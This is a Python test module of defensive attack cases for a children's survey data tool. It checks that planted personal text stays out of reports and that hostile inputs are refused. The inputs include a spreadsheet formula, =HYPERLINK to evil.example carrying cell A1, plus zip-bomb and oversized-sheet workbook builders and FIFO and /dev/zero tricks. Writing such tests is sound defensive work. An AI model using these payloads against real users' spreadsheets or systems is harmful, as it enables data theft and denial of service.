"""Attack cases on the data side: raw cell text kept off shared pages (family 1), formulas in data (5),
readers bounded (8), nothing lost silently (9) and settings or columns that used to end in a traceback (10)."""
from __future__ import annotations

import io
import random
import re
import zipfile

import yaml

from _helpers import ITEMS, children_rows, csv_text, write_cohort
from make_attack import case

REPORT = ["report", "{case}/cohort.yml", "--out", "{out}"]
VALIDATE = ["validate", "{case}/cohort.yml"]
WITH_AGE = {"columns": {"id": "child_id", "timepoint": "timepoint", "age": "age"}}


def _varied_rows(n=20, *, extra=None, seed=2026):
    """``n`` children with seeded random answers around a trait of each child, rising a little at post, so
    that every statistic of a report can be computed (constant answers leave reliability undefined)."""
    rng, rows = random.Random(seed), []
    for i in range(n):
        trait = rng.choice((1, 2, 2, 3))
        base = [min(3, max(1, trait + rng.choice((-1, 0, 0, 0, 1)))) for _ in ITEMS]
        for post, tp in enumerate(("pre", "post")):
            row = {"child_id": f"C{i + 1:04d}", "timepoint": tp}
            for q, b in zip(ITEMS, base):
                row[q] = str(min(3, max(1, b + (rng.random() < 0.3 * post) - (rng.random() < 0.1))))
            for col, values in (extra or {}).items():
                row[col] = values[i]
            rows.append(row)
    return rows


def _children(folder, rows, header=None, **section):
    (folder / "children.csv").write_text(csv_text(rows, header=header), encoding="utf-8")
    write_cohort(folder, children=section or None)


def _workbook(rows, *, tail=b"", extra_parts=()):
    """An .xlsx of ``rows`` (lists, the first the header); ``tail`` is XML put after the sheet's cells."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    plain = io.BytesIO()
    book.save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(plain) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", b"</sheetData>" + tail)
            if item.filename == "docProps/core.xml":  # creation and save times: the same bytes every run
                data = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2026-01-01T00:00:00Z", data)
            info = zipfile.ZipInfo(item.filename, date_time=(2026, 1, 1, 0, 0, 0))  # the same bytes every run
            info.compress_type = zipfile.ZIP_DEFLATED
            zout.writestr(info, data)
        for name, data in extra_parts:
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            zout.writestr(info, data)
    return out.getvalue()


def _sheet_rows(n=12, cells=None):
    """Header plus ``n`` children x (pre, post) rows for a workbook; ``cells`` maps (row index, column) -> value."""
    header = ["child_id", "timepoint", "age"] + ITEMS
    rows = [header]
    for i in range(n):
        for tp, v in (("pre", 2), ("post", 3)):
            rows.append([f"C{i + 1:04d}", tp, 9] + [v] * len(ITEMS))
    for (r, col), value in (cells or {}).items():
        rows[r][header.index(col)] = value
    return rows


# ----------------------------------------------------------------------------- family 1: no raw cell text shared

@case
def free_text_in_an_answer(folder):
    rows = _varied_rows()
    rows[4]["q7"] = "Jane Smith said she was scared"
    rows[9]["q12"] = "he hits mum when he drinks"
    _children(folder, rows)
    return {"family": 1, "description": "a child's words typed into answer cells never reach a shared page "
                                        "(the problems table says 'text where a number ... was expected')",
            "argv": REPORT, "exit": 0, "message": ["written to"],
            "planted": ["Jane Smith said she was scared", "Jane Smith", "he hits mum"], "kept": 40, "excluded": 0}


@case
def date_of_birth_in_the_age_column(folder):
    rows = _varied_rows(extra={"age": [str(6 + i % 10) for i in range(20)]})
    rows[0]["age"] = "2016-04-23"
    rows[6]["age"] = "23/04/2016"
    _children(folder, rows, **WITH_AGE)
    return {"family": 1, "description": "dates of birth typed where the age goes are described as 'a date', "
                                        "never shown",
            "argv": REPORT, "exit": 0, "message": ["written to"], "planted": ["2016-04-23", "23/04/2016"],
            "kept": 40, "excluded": 0}


@case
def name_in_a_timepoint_cell(folder):
    rows = _varied_rows() + [{"child_id": "C0099", "timepoint": "Ellie Mae Robinson", **{q: "2" for q in ITEMS}}]
    _children(folder, rows)
    return {"family": 1, "description": "a name typed into a timepoint cell: the row is excluded and the problems "
                                        "table says 'timepoint label not in the config's timepoints (text)'",
            "argv": REPORT, "exit": 0, "message": ["written to"], "planted": ["Ellie Mae Robinson", "Robinson"],
            "kept": 40, "excluded": 1}


@case
def spss_value_label_in_an_answer(folder):
    import pandas as pd
    import pyreadstat

    frame = pd.DataFrame(_varied_rows())
    frame[ITEMS] = frame[ITEMS].astype(float)
    frame.loc[3, "q5"] = 9.0
    frame.loc[8, "q5"] = 9.0
    path = folder / "children.sav"
    pyreadstat.write_sav(frame, str(path), variable_value_labels={
        "q5": {1.0: "not true", 2.0: "sometimes true", 3.0: "often true", 9.0: "told teacher about dad"}})
    data = bytearray(path.read_bytes())
    data[92:109] = b"01 Jan 2600:00:00"  # the header's creation date and time: the same bytes every run
    path.write_bytes(bytes(data))
    write_cohort(folder, children={"file": "children.sav"})
    return {"family": 1, "description": "an SPSS value label outside the response labels is text in an answer "
                                        "cell; it is counted, never quoted",
            "argv": REPORT, "exit": 0, "message": ["written to"], "planted": ["told teacher about dad"],
            "kept": 40, "excluded": 0}


@case
def problems_table_quotes_no_value(folder):
    rows = children_rows(12)
    rows[2]["q3"] = "Mrs Okafor (social worker)"
    rows[3]["q4"] = "07700 900123"
    rows[5]["timepoint"] = "2025-11-02"
    _children(folder, rows)
    return {"family": 1, "description": "validate's problems table describes kinds of value (text, a date), "
                                        "the restricted cleaning log keeps the values",
            "argv": VALIDATE, "exit": 0,
            "message": ["text where a number or response label was expected",
                        "timepoint label not in the config's timepoints (a date)"],
            "kept": 23, "excluded": 1}


# ----------------------------------------------------------------------------- family 5: formulas in data

@case
def formulas_in_ids_and_factor_levels(folder):
    rows = _varied_rows(extra={"delivery": ["+1", "group"] * 10, "site": ["@SUM(A1:A9)", "-cmd"] * 10})
    rows[0]["child_id"] = rows[1]["child_id"] = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    _children(folder, rows, columns={"id": "child_id", "timepoint": "timepoint", "delivery": "delivery",
                                     "site": "site"})
    return {"family": 5, "description": "an id and factor levels that start like spreadsheet formulas are written "
                                        "to results CSVs with a leading quote; the id reaches no shared page",
            "argv": REPORT, "exit": 0, "message": ["written to"],
            "planted": ["=HYPERLINK", "=hyperlink", "evil.example"], "kept": 40, "excluded": 0}


# ----------------------------------------------------------------------------- family 8: bounded resources

@case
def xlsx_long_tail_of_merged_ranges(folder):
    refs = b"".join(b'<mergeCell ref="A%d:C%d"/>' % (i, i) for i in range(100, 100_100))
    tail = b'<mergeCells count="100000">' + refs + b"</mergeCells>"
    (folder / "children.xlsx").write_bytes(_workbook(_sheet_rows(), tail=tail))
    write_cohort(folder, children={"file": "children.xlsx"})
    return {"family": 8, "description": "100,000 merged ranges after the cells (a small file): read in linear time "
                                        "(openpyxl's own pass over them took minutes)",
            "argv": VALIDATE, "exit": 0, "message": ["12 people, 12 with both pre and post"],
            "kept": 24, "excluded": 0}


@case
def xlsx_zip_bomb(folder):
    pad = b"<!--" + b" " * (30 * 2 ** 20) + b"-->"
    (folder / "children.xlsx").write_bytes(_workbook(_sheet_rows(), tail=pad))
    write_cohort(folder, children={"file": "children.xlsx"})
    return {"family": 8, "description": "a workbook whose sheet unpacks 1000 times its size is refused before "
                                        "it is unpacked",
            "argv": VALIDATE, "exit": 2,
            "message": ["children.xlsx", "xl/worksheets/sheet1.xml", "the limit is 100", "zip bomb",
                        "export it as .csv"]}


@case
def xlsx_too_many_cells(folder):
    # a stray cell a million rows down in the last column: 1,048,576 x 16,384 cells if read as a block
    book = _patch_sheet(_workbook(_sheet_rows()), b"</sheetData>",
                        b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>')
    (folder / "children.xlsx").write_bytes(book)
    write_cohort(folder, children={"file": "children.xlsx"})
    return {"family": 8, "description": "a stray cell at XFD1048576 would make a sheet of 17 billion cells: refused "
                                        "with the size and the fix",
            "argv": VALIDATE, "exit": 2,
            "message": ["children.xlsx", "more than the limit of 20,000,000 cells", "delete the empty rows"]}


def _patch_sheet(book, old, new):
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(old, new)
            zout.writestr(item, data)  # the same ZipInfo (fixed date): the same bytes every run
    return out.getvalue()


@case
def fifo_named_as_data_file(folder):
    write_cohort(folder)
    return {"family": 8, "description": "a named pipe named as the data file is refused without being opened "
                                        "(opening it waits forever)",
            "setup": [{"mkfifo": "{case}/children.csv"}], "argv": VALIDATE, "exit": 2,
            "message": ["children.csv", "named pipe (FIFO)", "not opened"]}


@case
def device_named_as_data_file(folder):
    write_cohort(folder)
    return {"family": 8, "description": "a link to /dev/zero (endless) named as the data file is refused unread",
            "setup": [{"symlink": {"link": "{case}/children.csv", "target": "/dev/zero"}}], "argv": VALIDATE,
            "exit": 2, "message": ["children.csv", "this is a device, not a data file"]}


@case
def folder_named_as_data_file(folder):
    write_cohort(folder)
    return {"family": 8, "description": "a folder named as the data file", "setup": [{"mkdir": "{case}/children.csv"}],
            "argv": VALIDATE, "exit": 2, "message": ["children.csv", "this is a folder, not a data file"]}


@case
def nul_bytes_in_cells(folder):
    text = csv_text(children_rows(12)).encode()
    text = text.replace(b"C0003,pre", b"C00\x0003,pre").replace(b"C0007,post,3", b"C0007,post,\x003")
    (folder / "children.csv").write_bytes(text)
    write_cohort(folder)
    return {"family": 8, "description": "NUL bytes inside cells are removed and logged, not left to cut the "
                                        "cell short ('C00' would have been another child)",
            "argv": VALIDATE, "exit": 0,
            "message": ["2 NUL byte(s) removed from 2 line(s)", "12 people, 12 with both pre and post"],
            "kept": 24, "excluded": 0}


@case
def booleans_nan_and_infinity_as_numbers(folder):
    rows = _sheet_rows(cells={(1, "q1"): True, (2, "q2"): False, (3, "age"): True, (4, "q3"): "nan",
                              (5, "q4"): "inf", (6, "q5"): "-Infinity", (7, "age"): "1e999"})
    (folder / "children.xlsx").write_bytes(_workbook(rows))
    write_cohort(folder, children={"file": "children.xlsx", **WITH_AGE})
    return {"family": 8, "description": "TRUE/FALSE cells and the texts nan/inf are set missing and logged, never "
                                        "read as 1, 0 or an infinite age",
            "argv": VALIDATE, "exit": 0,
            "message": ["true/false where a number was expected", "true/false where an age was expected",
                        "not a finite number (NaN or infinity) where a number was expected",
                        "not a number (true/false)", "not a finite number (NaN or infinity)"],
            "kept": 24, "excluded": 0}


# ----------------------------------------------------------------------------- family 9: nothing lost silently

@case
def decimals_on_a_whole_number_scale(folder):
    scale = {"id": "worry", "name": "Worry scale", "response": {"min": 0, "max": 10}, "scoring": "mean",
             "min_answered": 0.5, "subscales": [{"id": "worry", "label": "Worry", "items": ["w1", "w2"]}]}
    (folder / "worry.yml").write_text(yaml.safe_dump(scale, sort_keys=False), encoding="utf-8")
    rows = []
    for i in range(20):
        for tp, (a, b) in (("pre", ("6.5" if i < 8 else "6", "7")), ("post", ("4.5" if i < 8 else "4", "5"))):
            rows.append({"child_id": f"C{i:03d}", "timepoint": tp, "w1": a, "w2": b})
    (folder / "children.csv").write_text(csv_text(rows), encoding="utf-8")
    write_cohort(folder, children={"instrument": "worry.yml"})
    return {"family": 9, "description": "8.5-style answers on a 0-10 whole-number scale: validate opens with a "
                                        "warning naming the measure, the share and the cause, and the problems "
                                        "table says 'not a whole number', not 'outside 0-10'",
            "argv": VALIDATE, "exit": 0,
            "message": ["warning: children: 20% of the answers to Worry were set missing (not a whole number: "
                        "16 cells); see results/cleaning_log.csv",
                        "not a whole number (the scale is whole numbers 0-10)",
                        "Read the warning(s) at the top first"],
            "kept": 40, "excluded": 0}


# ----------------------------------------------------------------------------- family 10: never a traceback

@case
def age_bands_hold_nan(folder):
    (folder / "children.csv").write_text(csv_text(children_rows(4)), encoding="utf-8")
    write_cohort(folder, analysis={"age_bands": [5, float("nan"), 17]})
    return {"family": 10, "description": "age_bands: [5, .nan, 17] used to end in a traceback",
            "argv": VALIDATE, "exit": 2, "message": ["analysis.age_bands", "NaN or infinity is not an age"]}


@case
def min_cell_is_true(folder):
    (folder / "children.csv").write_text(csv_text(children_rows(4)), encoding="utf-8")
    write_cohort(folder, disclosure={"min_cell": True})
    return {"family": 10, "description": "min_cell: true was taken as 1, which switched suppression off",
            "argv": REPORT, "exit": 2, "message": ["disclosure.min_cell", "not true/false", "min_cell: 5"]}


@case
def alpha_is_a_boolean(folder):
    (folder / "children.csv").write_text(csv_text(children_rows(4)), encoding="utf-8")
    write_cohort(folder, analysis={"alpha": True})
    return {"family": 10, "description": "alpha: yes (a boolean) is not a significance level",
            "argv": VALIDATE, "exit": 2, "message": ["analysis.alpha", "between 0 and 1"]}


@case
def columns_named_file_and_row(folder):
    rows = children_rows(12, extra={"_file": ["other.csv"] * 12, "_row": ["1"] * 12})
    _children(folder, rows, columns={"id": "child_id", "timepoint": "timepoint", "site": "_file"})
    return {"family": 10, "description": "columns named _file and _row (the reader's own) used to overwrite the "
                                        "file name and row numbers, then end in a traceback",
            "argv": VALIDATE, "exit": 0, "message": ["12 people, 12 with both pre and post"],
            "kept": 24, "excluded": 0}
